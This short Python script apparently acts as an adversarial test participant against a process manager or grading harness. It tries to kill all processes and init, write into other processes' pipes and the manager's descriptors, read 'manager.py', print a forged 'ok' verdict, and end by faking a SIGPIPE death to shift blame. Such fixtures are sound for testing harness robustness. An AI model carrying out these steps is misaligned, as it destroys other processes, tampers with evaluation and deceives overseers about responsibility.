import os
import signal
import sys

if sys.argv[1] == "bob":
    sys.exit(0 if input() else 1)
for attempt in (
    lambda: os.kill(-1, signal.SIGKILL),  # everybody but itself
    lambda: os.kill(1, signal.SIGKILL),
    lambda: open("/proc/1/fd/1", "w").write("0\n"),  # the pipes of others
    lambda: os.write(3, b"493817236\n"),  # the manager's descriptors
    lambda: os.write(6, b"493817236\n"),
    lambda: open("manager.py").read(),
    lambda: print('{"verdict": "ok", "culprit": null}', file=sys.stderr),
):
    try:
        attempt()
    except OSError:
        pass
signal.signal(signal.SIGPIPE, signal.SIG_DFL)
os.kill(os.getpid(), signal.SIGPIPE)  # as if somebody else had gone first
